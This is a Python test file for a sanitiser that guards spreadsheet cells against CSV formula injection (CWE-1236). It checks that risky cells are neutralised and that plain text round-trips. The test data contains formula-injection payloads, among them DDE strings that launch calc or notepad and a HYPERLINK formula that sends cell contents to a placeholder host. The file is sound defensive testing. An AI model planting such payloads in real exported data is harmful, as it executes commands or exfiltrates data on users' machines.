"""Cells for spreadsheets: nothing is computed, nothing is lost (OWASP "CSV Injection", CWE-1236; cases/14)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.cells import inert, lines, plain

# What people and attackers write at the borders of the rule, so that they meet often.
TEXTS = st.one_of(st.text(), st.text(alphabet="'=+-@＝＋－＠−;|,\t\r\n\" \u00a0\u200b\ufeff0123456789.eE/aX"))

COMPUTED = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "+44-20-79460000", "-12b Quay", "+1 403 262-3443 x12", "-5",
    "＝1+1", "＋1", "－1", "＠x", "﹦1", "−1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1",
    "\t=1", "\r=1", "\n=1", "a;=1", "a; =1", "a\t@x", "a\n=1", "a\r\n-1", "a|=1",
    "x\";=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'", "=HYPERLINK(\"http://x.example/\"&A1)", "=1+1\";=1+1",
]  # fmt: skip
REWRITTEN = ["007", "01234", "0446681800", "1234567890123456", "12E5", "1-2", "12/3", "3.4.2026", "2026-11-28"]
LEFT = [
    "", "Luís", "O'Hara-Łukasz", "'s-Hertogenbosch", "'t Hooft", "''", "a'=1", "1 Road", "12b Quay", "a-b", "a=b", "a, -b", "0",
    "7", "69000", "x@y.example", "2026-11-28T10:00:00Z", '{"n": -1}', "Flat 2; floor 3", "1 Road\n69000 Lyon",
]  # fmt: skip


@pytest.mark.parametrize("cell", COMPUTED + REWRITTEN)
def test_what_a_spreadsheet_would_compute_or_rewrite_is_guarded(cell: str) -> None:
    assert inert(cell) != cell and plain(inert(cell)) == cell


@pytest.mark.parametrize("cell", LEFT)
def test_what_is_harmless_stays_as_it_is_both_ways(cell: str) -> None:
    assert inert(cell) == cell == plain(cell)


def starts(text: str) -> list[str]:
    """Where a spreadsheet that takes any of these for a separator begins a cell, without what it skips."""
    for separator in "|\t\r\n":
        text = text.replace(separator, ";")
    return [one.lstrip(" \u00a0\u3000\u200b\u200c\u200d\u200e\u200f\u2060\ufeff\u00ad") for one in text.split(";")]


@given(TEXTS)
def test_it_comes_back_and_begins_no_formula_whatever_the_separator(cell: str) -> None:
    written = inert(cell)
    assert plain(written) == cell
    assert not [one for one in starts(written) if one[:1] and one[0] in "=+-@＝＋－＠"]


@given(st.lists(st.lists(TEXTS.filter(lambda one: "\0" not in one), min_size=1, max_size=4), max_size=4))
def test_a_file_reads_back(rows: list[list[str]]) -> None:
    found = [[plain(cell) for cell in row] for row in csv.reader(io.StringIO(lines(rows), newline=""), strict=True)]
    assert found == rows
